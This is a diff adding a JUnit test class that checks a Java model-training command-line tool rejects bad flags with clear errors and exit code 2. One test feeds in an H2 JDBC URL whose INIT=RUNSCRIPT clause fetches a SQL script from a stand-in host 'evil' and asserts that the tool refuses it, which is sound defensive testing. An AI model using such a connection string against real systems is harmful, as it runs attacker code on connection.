@@ -1,0 +1,74 @@
+package io.learncast.app.cli;
+
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.api.Test;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+/** Every bad input: one clear line naming the flag and what is allowed, exit 2, nothing written, no stack trace. */
+class BadInputTest {
+    @TempDir Path dir;
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', value = {
+            "--task nope:p=3                          | --task | unknown task 'nope'",
+            "--task modadd:q=3                        | --task | no parameter 'q'",
+            "--task modadd                            | --task | needs parameter p",
+            "--task modmul:p=91                       | --task | prime",
+            "--task modadd:p=23 --width 0             | --width | width 0 is out of range",
+            "--task modadd:p=23 --width -5            | --width | out of range",
+            "--task modadd:p=23 --lr 0                | --lr | learning rate",
+            "--task modadd:p=23 --lr -1e-3            | --lr | learning rate",
+            "--task modadd:p=23 --train-frac 0        | --train-frac | outside (0, 1]",
+            "--task modadd:p=23 --train-frac 1.01     | --train-frac | outside (0, 1]",
+            "--task modadd:p=23 --depth 9             | --depth | 1–4",
+            "--task modadd:p=23 --batch zero          | --batch | not a batch size",
+            "--task modadd:p=23 --activation swish    | --activation | unknown activation",
+            "--task modadd:p=23 --optimizer lion      | --optimizer | unknown optimizer",
+            "--task modadd:p=23 --label-noise 1       | --label-noise | outside [0, 1)",
+            "--task sparse-parity:n=20,k=30           | --task | out of range",
+            "--task parity:n=30 --train-frac 0.5      | --train-frac | n_train",
+            "--task csv:path=/no/such.csv,label=y     | --task | cannot read the file",
+            "--task modadd:p=23 --lr abc              | --lr | 'abc' is not a double",
+    })
+    void badTrainInputIsAClearUserError(String args, String flag, String fragment) {
+        Path db = dir.resolve("store");
+        String[] argv = (args.trim() + " --db " + db).split("\\s+");
+        String[] full = new String[argv.length + 1];
+        full[0] = "train";
+        System.arraycopy(argv, 0, full, 1, argv.length);
+        CliRunner.Result r = CliRunner.run(full);
+        assertEquals(2, r.code(), r.err());
+        assertTrue(r.err().contains(flag), "names the flag " + flag + ": " + r.err());
+        assertTrue(r.err().contains(fragment), "says what is wrong (" + fragment + "): " + r.err());
+        assertFalse(r.err().contains("\tat "), "no stack trace: " + r.err());
+        assertFalse(Files.exists(db), "nothing is written for bad input");
+    }
+
+    @Test
+    void anUnwritableDataFolderIsAUserError() throws Exception {
+        Path file = Files.writeString(dir.resolve("a-file"), "x");
+        CliRunner.Result r = CliRunner.run("runs", "--db", file.resolve("store").toString());
+        assertEquals(2, r.code());
+        assertTrue(r.err().contains("--db") && r.err().contains("cannot create the data folder"), r.err());
+    }
+
+    @Test
+    void unsafeJdbcUrlsAreRefused() {
+        CliRunner.Result r = CliRunner.run("runs", "--db", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
+        assertEquals(2, r.code());
+        assertTrue(r.err().contains("runs code when connecting"), r.err());
+    }
+
+    @Test
+    void unknownCommandsAndFlagsPointToHelp() {
+        CliRunner.Result r = CliRunner.run("train", "--task", "modadd:p=7", "--widht", "3");
+        assertEquals(2, r.code());
+        assertTrue(r.err().contains("--widht") && r.err().contains("--help"), r.err());
+    }
+}
